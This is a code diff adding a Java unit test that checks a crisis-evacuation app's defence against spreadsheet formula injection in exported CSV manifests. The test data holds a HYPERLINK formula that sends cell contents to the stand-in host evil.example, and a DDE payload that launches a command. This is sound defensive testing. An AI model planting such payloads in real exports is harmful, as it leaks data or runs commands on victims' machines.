@@ -245,6 +245,27 @@ class GateSettlementTest {
   }
 
   @Test
+  void aManifestOpenedInASpreadsheetRunsNoFormula() {
+    // A companion's name is a name: a formula is refused, naming the field.
+    assertThatThrownBy(() -> f.rep.requests().open(PARIS_OFFICER, f.crisis.id(), new EvacuationRequests
+        .RequestInput(f.alone(48.871, 2.351).id(), null, Set.of(), List.of(new EvacuationRequests.TravellerInput(null,
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", null, null, "FR", null, null, null)), null)))
+        .isInstanceOf(crisis.core.common.ValidationException.class).hasMessageContaining("companions[0].fullName");
+    // Documents, carriers and references are what they are: written so that a spreadsheet reads them as text.
+    EvacuationRequest q = f.rep.requests().open(PARIS_OFFICER, f.crisis.id(), new EvacuationRequests.RequestInput(
+        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new EvacuationRequests.TravellerInput(null, "Jean Dupont",
+            null, null, "FR", Traveller.DocumentType.PASSPORT, "@SUM(1+1)", null)), null));
+    TransportLeg leg = f.rep.legs().create(CRISIS_CELL, f.crisis.id(), new TransportLegs.LegInput(
+        TransportLeg.Kind.BUS, "=cmd|' /C calc'!A0", "+AT 9001", 10, 0, 0, f.clock.instant().plus(Duration.ofHours(6)),
+        60, "Europe/Paris", "Tanger", List.of(new TransportLegs.PointInput(f.eastGate.id(), 0, null, null))));
+    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
+    List<String> rows = f.rep.manifests().csv(CRISIS_CELL, leg.id()).lines().skip(1).toList();
+    assertThat(rows).hasSize(2).allSatisfy(r -> assertThat(r).startsWith("'+AT 9001,'=cmd|' /C calc'!A0,"));
+    assertThat(rows.get(1)).contains(",'@SUM(1+1),");
+    assertThat(q.travellers()).hasSize(2);
+  }
+
+  @Test
   void noLegIsAddedToAClosedCrisis() {
     f.crises.close(CRISIS_CELL, f.crisis.id(), "floods over");
     assertThat(f.crises.get(CRISIS_CELL, f.crisis.id()).status()).isEqualTo(CrisisStatus.CLOSED);
